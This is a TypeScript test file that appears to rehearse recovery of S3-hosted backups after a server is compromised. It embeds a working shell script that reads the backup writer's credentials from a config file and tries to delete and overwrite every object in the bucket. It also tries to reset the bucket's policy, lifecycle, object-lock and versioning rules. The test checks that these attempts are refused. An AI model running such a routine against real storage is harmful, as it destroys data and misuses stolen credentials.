/** Somebody is root on the server: deletes and overwrites all that its key reaches, and destroys the disk. The administrator's key brings it back. */
import { afterAll, beforeAll, expect, it } from "vitest";

import { reinstall } from "../../rehearsal/reinstall.ts";
import { addData, countSet, POINTS } from "./data.ts";
import { npm, useOvhKey } from "./deployments.ts";
import { askHealth, ensureStarted, expectQuiet, onServer, operator, startAgain } from "./rehearsal.ts";

/** Tries to delete every object of the repository, and then writes over it, with nothing but what is on the server. */
const ATTACK = `
known() { python3 -c 'import json, sys; print(json.load(open("/etc/technicia/backup.json"))[sys.argv[1]])' "$1"; }
address=$(known repository); address=\${address#s3:}; bucket=\${address%/*}; prefix=\${address##*/}
sed -n 's/^aws_access_key_id = \\(.*\\)/user = "\\1:/p; s/^aws_secret_access_key = \\(.*\\)/\\1"/p' /etc/technicia/backup/writer | paste --serial --delimiters '' > /root/stolen
ask() {
  curl --silent --config /root/stolen --aws-sigv4 "aws:amz:$(known region):s3" --header 'x-amz-content-sha256: UNSIGNED-PAYLOAD' \
    --output /root/answer --write-out '%{http_code}\\n' "$@"
}
ask "$bucket?list-type=2&prefix=$prefix%2F" >/dev/null
objects=$(grep --only-matching '<Key>[^<]*' /root/answer | cut -c 6- | grep -v /locks/)
deleted=0 refused=0 overwritten=0
for object in $objects; do
  code=$(ask --request DELETE "$bucket/$object")
  if [ "$code" = 403 ]; then refused=$((refused + 1)); else deleted=$((deleted + 1)); fi
  [ "$(ask --request PUT --data-binary encrypted "$bucket/$object")" = 200 ] && overwritten=$((overwritten + 1))
done
for rule in policy lifecycle object-lock versioning; do echo "$rule $(ask --request PUT --data-binary '{}' "$bucket?$rule=")"; done
echo "deleted $deleted refused $refused overwritten $overwritten of $(wc --lines <<<"$objects")"`;

const run = async (command: readonly string[], variables: Readonly<Record<string, string>> = {}) => {
  const { code, stdout, stderr } = await operator(["npm", "run", "--silent", ...command], {
    environment: variables,
  });
  expect(code, `${stdout}\n${stderr}`).toBe(0);
  return `${stdout}\n${stderr}`;
};

/** As the owner of the account, who makes the administrator once; the key of every day may not. */
async function makeAdministrator(): Promise<string> {
  await useOvhKey("ovhFirstConsumerKey");
  const said = await run(["backup", "--", "test", "--administrator"]);
  await useOvhKey("ovhConsumerKey");
  return /BACKUP_ADMINISTRATOR_KEY=(\S+)/.exec(said)?.[1] ?? "";
}

beforeAll(async () => {
  await ensureStarted();
  await addData();
});
// Rewrites the settings.
afterAll(startAgain);

it("loses no set: the administrator's key brings them back, and one command the server", async () => {
  const administrator = await makeAdministrator();
  const { counts: before } = await countSet();
  expect(before["qdrant"]!["technicia"]).toBeGreaterThanOrEqual(POINTS);

  const damage = await onServer(ATTACK);

  expect(damage).toMatch(/deleted 0 refused (\d+) overwritten \1 of \1\n/);
  for (const rule of ["policy", "lifecycle", "object-lock", "versioning"])
    expect(damage).toContain(`${rule} 403`);
  await reinstall();
  const hopeless = await npm("recover", "--", "test", "--yes");
  expect(hopeless.code).not.toBe(0);
  expect(hopeless.stderr).toContain(
    "somebody has written over it, which npm run backups -- test --undelete takes back",
  );

  const began = performance.now();
  const found = await run(["backups", "--", "test", "--undelete", "--yes"], {
    BACKUP_ADMINISTRATOR_KEY: administrator,
  });
  const undeleted = (performance.now() - began) / 1000;
  expect(found).toMatch(/brought back [1-9]\d* objects/);
  const recovered = await run(["recover", "--", "test", "--yes"]);
  console.log(
    `brought the objects back in ${undeleted.toFixed(1)} s\n${/^Step +Seconds[^]*/m.exec(recovered)?.[0]}`,
  );

  expect((await countSet()).counts).toEqual(before);
  await run(["backups", "--", "test", "--check", "--read-data"]);
  await askHealth();
  await expectQuiet();
});
